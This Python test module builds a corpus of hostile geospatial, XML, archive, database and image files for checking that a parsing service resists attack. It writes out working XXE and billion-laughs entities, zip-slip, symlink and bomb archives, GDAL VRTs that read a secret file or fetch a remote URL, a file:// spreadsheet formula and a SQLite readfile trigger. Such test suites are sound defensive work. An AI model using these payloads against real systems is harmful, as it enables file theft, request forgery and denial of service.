"""Files made to harm, each in a few lines: they name other files, call out, swell, lie, nest or never end.

`hostile_files(folder, url, secret)` writes them all; `url` is a canary that counts who calls, `secret` a file whose
content nobody may see.
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import numpy as np

_POINT = {"type": "Point", "coordinates": [126.978, 37.5665]}
_CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)


def hostile_files(folder: Path, url: str, secret: Path) -> list[Path]:
    """Write all of them; return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    makers = (_disguised, _links, _xml, _zips, _json, _tables, _pictures, _databases, _geometries, _headers)
    for name, content in (one for maker in makers for one in maker(url, secret)):
        path = folder / f"{len(made):03d}-{name}"
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        made.append(path)
    return made


Files = Iterator[tuple[str, "bytes | str"]]


def _disguised(url: str, secret: Path) -> Files:
    """Files of GDAL that lead elsewhere, under harmless names."""
    layer = '<OGRVRTLayer name="token"><SrcDataSource>{}</SrcDataSource></OGRVRTLayer>'
    band = (
        '<VRTDataset rasterXSize="4" rasterYSize="1"><SRS>EPSG:4326</SRS><GeoTransform>127,0.1,0,37,0,-0.1'
        '</GeoTransform><VRTRasterBand dataType="Byte" band="1"{}>{}</VRTRasterBand></VRTDataset>'
    )
    raw = (
        f'<SourceFilename relativetoVRT="0">{secret}</SourceFilename><ImageOffset>0</ImageOffset>'
        "<PixelOffset>1</PixelOffset><LineOffset>4</LineOffset>"
    )
    python = "<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python</PixelFunctionLanguage>"
    remote, pipeline = f"/vsicurl/{url}/a.tif", f"gdal vector pipeline ! read {secret} ! write"
    contents = {
        "ogr-vrt-local": f"<OGRVRTDataSource>{layer.format(f'CSV:{secret}')}</OGRVRTDataSource>",
        "ogr-vrt-remote": f"<OGRVRTDataSource>{layer.format(f'/vsicurl/{url}/a.geojson')}</OGRVRTDataSource>",
        "vrt-raw": band.format(' subClass="VRTRawRasterBand"', raw),
        "vrt-python": band.format(' subClass="VRTDerivedRasterBand"', python),
        "vrt-remote": band.format("", f"<SimpleSource><SourceFilename>{remote}</SourceFilename></SimpleSource>"),
        "wms": f'<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}</ServerUrl></Service></GDAL_WMS>',
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": pipeline}),
        "stac": json.dumps({"type": "Feature", "stac_version": "1.0.0", "assets": {"a": {"href": f"{url}/a.tif"}}}),
        "wfs": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "vsicurl-path": remote,
    }  # fmt: skip
    names = ("tif", "geojson", "kml", "csv", "asc")
    for (what, content), suffix in product(contents.items(), names):
        yield f"{what}.{suffix}", content


def _links(url: str, _secret: Path) -> Files:
    """Addresses where formats allow them."""
    for kind, key in (("link", "href"), ("url", "url"), ("name", "name")):
        crs = {"type": kind, "properties": {key: f"{url}/crs", "type": "esriwkt"}}
        yield f"crs-{kind}.geojson", json.dumps({"type": "FeatureCollection", "crs": crs, "features": [_feature()]})
    yield (
        "paged.geojson",
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [_feature()],
                "links": [{"rel": "next", "href": f"{url}/next"}],
            }
        ),
    )
    yield (
        "network.kml",
        (
            f'<kml><Document><Style id="s"><IconStyle><Icon><href>{url}/icon.png</href></Icon></IconStyle></Style>'
            f"<NetworkLink><Link><href>{url}/n.kml</href></Link></NetworkLink><Placemark><styleUrl>{url}/s.kml#s"
            "</styleUrl><Point><coordinates>127,37</coordinates></Point></Placemark></Document></kml>"
        ),
    )
    yield (
        "overlay.kml",
        (
            f"<kml><GroundOverlay><Icon><href>{url}/o.png</href></Icon><LatLonBox><north>38</north><south>37</south>"
            "<east>128</east><west>127</west></LatLonBox></GroundOverlay></kml>"
        ),
    )
    yield (
        "schema.gpx",
        (
            '<gpx xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" version="1.1"'
            f' xsi:schemaLocation="a {url}/gpx.xsd">'
            f'<wpt lat="37" lon="127"><link href="{url}/w"/></wpt></gpx>'
        ),
    )
    yield "schema.gml", f'<FeatureCollection xmlns:xsi="i" xsi:schemaLocation="a {url}/a.xsd"/>'


def _xml(url: str, secret: Path) -> Files:
    """Entities that swell, or that are files and addresses."""
    laughs = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    doctypes = {
        "laughs": f"<!DOCTYPE x [{laughs}]>",
        "file": f'<!DOCTYPE x [<!ENTITY k SYSTEM "file://{secret}">]>',
        "address": f'<!DOCTYPE x [<!ENTITY k SYSTEM "{url}/entity">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY k "{"A" * 100_000}">]>',
    }
    for what, doctype in doctypes.items():
        text, head = "&k;" * 10_000 if what == "quadratic" else "&k;", f"<?xml version='1.0'?>{doctype}"
        place = f"<Placemark><name>{text}</name><Point><coordinates>127,37</coordinates></Point></Placemark>"
        yield f"{what}.kml", f"{head}<kml>{place}</kml>"
        yield f"{what}.gpx", f"{head}<gpx version='1.1'><wpt lat='37' lon='127'><name>{text}</name></wpt></gpx>"
        yield f"{what}.svg", f"{head}<svg><text>{text}</text></svg>"
        row = f"<row><c t='str'><v>{text}</v></c></row>"
        sheet = f"{head}<worksheet><sheetData>{row}</sheetData></worksheet>"
        book = {"[Content_Types].xml": _CONTENT_TYPES, "xl/workbook.xml": doctype + "<workbook/>"}
        yield f"{what}.xlsx", _zip({**book, "xl/worksheets/sheet1.xml": sheet})
        mimetype = "application/vnd.oasis.opendocument.spreadsheet"
        yield f"{what}.ods", _zip({"mimetype": mimetype, "content.xml": f"{head}<office>{text}</office>"})
    yield "deep.kml", "<kml>" + "<Folder>" * 200_000


def _zip(members: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _zips(_url: str, secret: Path) -> Files:
    """Archives that lead out, link, overlap, swell, nest or lie."""
    good = json.dumps(_feature())
    for number, name in enumerate(("../../out.geojson", "/tmp/out.geojson", "..\\out.geojson", "C:\\out.geojson")):
        yield f"slip-{number}.zip", _zip({"a.geojson": good, name: good})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.csv")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(secret))
    yield "symlink.zip", out.getvalue()
    double = bytearray(_zip({"a.geojson": good, "b.geojson": good}))
    second = double.index(b"PK\x01\x02", double.index(b"PK\x01\x02") + 4)
    double[second + 42 : second + 46] = struct.pack("<I", 0)
    yield "overlap.zip", bytes(double)
    yield "bomb.zip", _zip({"a.csv": b"x,y\n" + b"127,37\n" * 20_000_000})
    yield "bomb.kmz", _zip({"doc.kml": b"<kml>" + b" " * 300_000_000})
    yield "bomb.xlsx", _zip({"[Content_Types].xml": _CONTENT_TYPES, "xl/workbook.xml": "<workbook/>",
                             "xl/worksheets/sheet1.xml": b"<worksheet>" + b" " * 300_000_000})  # fmt: skip
    inner = _zip({"a.geojson": good})
    for _ in range(6):
        inner = _zip({"inner.zip": inner})
    yield "nested.zip", inner
    yield "entries.zip", _zip({f"{n}.txt": "x" for n in range(5000)})
    lying = bytearray(_zip({"a.geojson": b" " * 80_000_000}))
    for magic, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = lying.index(magic) + at
        lying[start : start + 4] = struct.pack("<I", 1000)
    yield "lying.zip", bytes(lying)


def _feature(**properties: object) -> dict[str, object]:
    return {"type": "Feature", "properties": properties, "geometry": _POINT}


def _json(_url: str, _secret: Path) -> Files:
    yield "deep.geojson", "[" * 200_000
    yield "deep-coordinates.geojson", '{"type":"Polygon","coordinates":' + "[" * 5000 + "]" * 5000 + "}"
    yield "deep-property.geojson", json.dumps(_feature()).replace("{}", '{"a":' + '{"a":' * 3000 + "1" + "}" * 3001)
    for text in ("NaN", "Infinity", "1e999", "-1e999", "1" + "0" * 5000, "0x1F", '"127"', "null"):
        yield (
            f"number-{text[:6].strip('-')}.geojson".replace('"', ""),
            ('{"type":"Point","coordinates":[' + text + ",37.5]}"),
        )
    yield "many-keys.geojson", json.dumps(_feature(**{f"k{n}": n for n in range(50_000)}))
    yield "long-text.geojson", json.dumps(_feature(a="가" * 5_000_000))
    yield (
        "surrogate.geojson",
        '{"type":"Feature","properties":{"a":"\\ud800"},"geometry":' + json.dumps(_POINT) + "}",
    )
    yield "proto.geojson", json.dumps(_feature(__proto__="x", constructor="y", **{"<script>": "</script>"}))


def _tables(_url: str, secret: Path) -> Files:
    yield "columns.csv", ",".join(["x", "y", *(f"c{n}" for n in range(100_000))]) + "\n" + "127,37\n"
    yield "quote.csv", 'x,y,name\n127,37,"' + "a" * 30_000_000
    yield "nul.csv", b"x,y,name\n127,37,a\x00b\n" * 1000
    yield "formula.csv", f'x,y,name\n127,37,"=HYPERLINK(""file://{secret}"")"\n'
    yield "one-line.csv", "127,37," * 5_000_000


def _pictures(_url: str, _secret: Path) -> Files:
    """Images far larger than their files."""
    for side in (65_000, 2_000_000_000):
        head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
        yield (
            f"huge-{side}.png",
            b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(b"\0" * 9999)),
        )
    for side, bands in ((1_000_000, 1), (4_000_000_000, 4), (60_000, 60_000)):
        yield f"huge-{side}-{bands}.tif", _sparse_tiff(side, bands)
    yield (
        "huge.jpg",
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01" + b"\0" * 99,
    )
    yield "loop.tif", b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 0) + struct.pack("<I", 8)
    yield "negative.asc", "ncols -5\nnrows -5\nxllcorner 0\nyllcorner 0\ncellsize 1\n1 2\n"
    yield "huge.asc", "ncols 2000000000\nnrows 2000000000\nxllcorner 0\nyllcorner 0\ncellsize 1\n1 2\n"
    yield "tiny-cells.asc", "ncols 2\nnrows 2\nxllcorner 0\nyllcorner 0\ncellsize 1e-300\n1 2\n3 4\n"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _sparse_tiff(side: int, bands: int) -> bytes:
    """Return a TIFF that names a size and holds no pixel (TIFF 6.0; sparse as GDAL writes it)."""
    entries = [
        (256, 4, side),
        (257, 4, side),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 0),
        (277, 3, bands % 65536),
    ]
    entries += [(278, 4, side), (279, 4, 0)]
    body = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(entries)) + body + b"\0\0\0\0"


def _databases(_url: str, secret: Path) -> Files:
    """GeoPackages and MBTiles with views that never end, triggers, and files attached."""
    endless = (
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x AS fid, x AS geom, x AS n FROM c"
    )
    tables = (
        "PRAGMA application_id = 1196444487;"
        "CREATE TABLE gpkg_spatial_ref_sys (srs_name, srs_id INTEGER PRIMARY KEY, organization,"
        " organization_coordsys_id, definition, description); {contents}"
        "CREATE TABLE gpkg_geometry_columns (table_name, column_name, geometry_type_name, srs_id, z, m);"
    )
    contents = (
        "CREATE TABLE gpkg_contents (table_name, data_type, identifier, description, last_change,"
        " min_x, min_y, max_x, max_y, srs_id);"
    )
    rows = (
        "INSERT INTO gpkg_contents (table_name, data_type, srs_id) VALUES ('v', 'features', 4326);"
        "INSERT INTO gpkg_geometry_columns VALUES ('v', 'geom', 'POINT', 4326, 0, 0);"
    )
    yield "view.gpkg", _database(tables.format(contents=contents) + rows + f"CREATE VIEW v AS {endless};")
    view = f"CREATE VIEW gpkg_contents AS {endless.replace('x AS fid, x AS geom, x AS n', 'x AS table_name')};"
    yield "contents-view.gpkg", _database(tables.format(contents=view))
    trigger = f"CREATE TRIGGER t AFTER INSERT ON gpkg_contents BEGIN SELECT readfile('{secret}'); END;"
    virtual = f"CREATE VIRTUAL TABLE v USING fts5(a); {trigger}"
    yield "virtual.gpkg", _database(tables.format(contents=contents) + rows + virtual)
    tiles = endless.replace(
        "x AS fid, x AS geom, x AS n", "x AS zoom_level, x AS tile_column, x AS tile_row, x AS tile_data"
    )
    yield "view.mbtiles", _database(f"CREATE TABLE metadata (name, value); CREATE VIEW tiles AS {tiles};")
    yield "deep.mbtiles", _database(
        "CREATE TABLE metadata (name, value);"
        "INSERT INTO metadata VALUES ('format', 'pbf'), ('maxzoom', '4000000000');"
        "CREATE TABLE tiles (zoom_level, tile_column, tile_row, tile_data);"
        "INSERT INTO tiles VALUES (99, -5, 1e300, x'00');"
    )  # fmt: skip
    yield "truncated.gpkg", _database(tables.format(contents=contents) + rows)[:5000]
    yield (
        "pmtiles-bomb.pmtiles",
        b"PMTiles\x03" + struct.pack("<11Q", *([2**62] * 11)) + b"\1\2\2\1\0\x0e" + b"\0" * 25,
    )


def _database(script: str) -> bytes:
    database = sqlite3.connect(":memory:")
    try:
        database.executescript(script)
        return database.serialize()
    finally:
        database.close()


def _geometries(_url: str, _secret: Path) -> Files:
    """Shapes that take for ever to check."""
    for vertices in (100_000, 1_100_000):
        angle = np.linspace(0, 2 * np.pi, vertices, endpoint=False)
        radius = np.where(np.arange(vertices) % 2, 0.1, 0.001)
        ring = np.column_stack([127 + radius * np.cos(angle), 37 + radius * np.sin(angle)]).round(9).tolist()
        yield f"star-{vertices}.geojson", json.dumps({"type": "Polygon", "coordinates": [[*ring, ring[0]]]})
    teeth = [[126 + n / 50_000, 37 + (n % 2)] for n in range(100_000)]
    yield "comb.geojson", json.dumps({"type": "Polygon", "coordinates": [[*teeth, teeth[0]]]})
    random = np.random.default_rng(1).uniform((126, 37), (127, 38), (20_000, 2)).tolist()
    yield "tangle.geojson", json.dumps({"type": "Polygon", "coordinates": [[*random, random[0]]]})
    holes = [
        [[126 + n / 1000, 37], [126.0005 + n / 1000, 37], [126 + n / 1000, 37.1], [126 + n / 1000, 37]]
        for n in range(900)
    ]
    shell = [[126, 37], [127, 37], [127, 38], [126, 38], [126, 37]]
    yield "holes.geojson", json.dumps({"type": "Polygon", "coordinates": [shell, *holes * 20]})
    opened = '{"type":"GeometryCollection","geometries":['
    yield "collections.geojson", opened * 500 + json.dumps(_POINT) + "]}" * 500


def _headers(_url: str, _secret: Path) -> Files:
    """Headers that promise more than there is."""
    shp = struct.pack(">i20xi", 9994, 2**30) + struct.pack("<ii8d", 1000, 5, *([0.0] * 8))
    yield "long.shp", shp + struct.pack(">ii", 1, 2**29) + struct.pack("<i4dii", 5, 0, 0, 1, 1, 2**30, 2**30)
    yield "long.fgb", b"fgb\x03fgb\x00" + struct.pack("<I", 2**31 - 1)
    yield "long.parquet", b"PAR1" + struct.pack("<I", 2**31 - 1) + b"PAR1"
    yield "long.dt0", b"UHL1" + b"9" * 3424
    yield "long.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000
